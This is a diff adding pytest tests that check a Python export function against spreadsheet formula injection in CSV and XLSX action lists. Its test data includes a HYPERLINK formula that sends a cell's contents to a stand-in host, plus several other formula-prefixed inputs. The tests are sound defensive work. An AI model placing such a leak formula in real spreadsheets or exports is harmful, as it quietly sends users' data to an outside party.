@@ -148,3 +148,66 @@ def test_xlsx_has_a_readable_sheet(tmp_path):
 def test_unknown_suffix_is_refused(tmp_path):
     with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
         export_actions(ideal_vs_current(_veranda()), tmp_path / "actions.pdf")
+
+
+# What a participant may type (or paste) as a change or an owner: in a spreadsheet,
+# each of these runs as a formula unless the file says it is text.
+FORMULA_LIKE = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
+    "+31 20 123 4567",
+    "@SUM(A1:A9)",
+    "-1+1",
+    "=1+1",
+    "'already quoted",
+    "\t=tab first",
+]
+
+
+def _hostile_actions():
+    df = ideal_vs_current(_veranda())
+    assert len(df) >= 6
+    for i, text in enumerate(FORMULA_LIKE[:6]):
+        df.loc[i, "change"] = text
+    df.loc[0, "owner"] = FORMULA_LIKE[6]
+    df.loc[1, "owner"] = "Sales\rteam"  # a lone carriage return stays inside its cell
+    return df
+
+
+@pytest.mark.parametrize("lang", ["en", "nl"])
+def test_formula_like_text_in_a_csv_action_list_stays_text_and_reads_back_exactly(tmp_path, lang):
+    import csv
+    import io
+
+    df = _hostile_actions()
+    with language(lang):
+        path = export_actions(df, tmp_path / "actions.csv")
+    text = path.read_text("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "nl" else ","))
+    assert len(rows) == len(df) + 1
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in text
+    back = load_actions(path)
+    assert back["change"].tolist()[:6] == FORMULA_LIKE[:6]
+    assert back.loc[0, "owner"] == FORMULA_LIKE[6]
+    assert back.loc[1, "owner"] == "Sales\rteam"
+    assert back.astype(str).equals(df.astype(str))
+
+
+def test_formula_like_text_in_an_xlsx_action_list_is_text_not_a_live_formula(tmp_path):
+    from openpyxl import load_workbook
+
+    df = _hostile_actions()
+    path = export_actions(df, tmp_path / "actions.xlsx")
+    sheet = load_workbook(path).active
+    change = next(c for c in sheet[1] if c.value == "What changes").column
+    owner = next(c for c in sheet[1] if c.value == "Owner").column
+    for row, text in enumerate(FORMULA_LIKE[:6], start=2):
+        cell = sheet.cell(row=row, column=change)
+        assert cell.data_type == "s" and cell.value == text
+        if text[0] in "=+-@":
+            assert cell.quotePrefix  # still text when someone edits the cell in Excel
+    assert sheet.cell(row=2, column=owner).value == FORMULA_LIKE[6]
+    assert sheet.cell(row=3, column=owner).value == "Sales\nteam"  # Excel's line break in a cell
+    back = load_actions(path)
+    assert back["change"].tolist()[:6] == FORMULA_LIKE[:6]
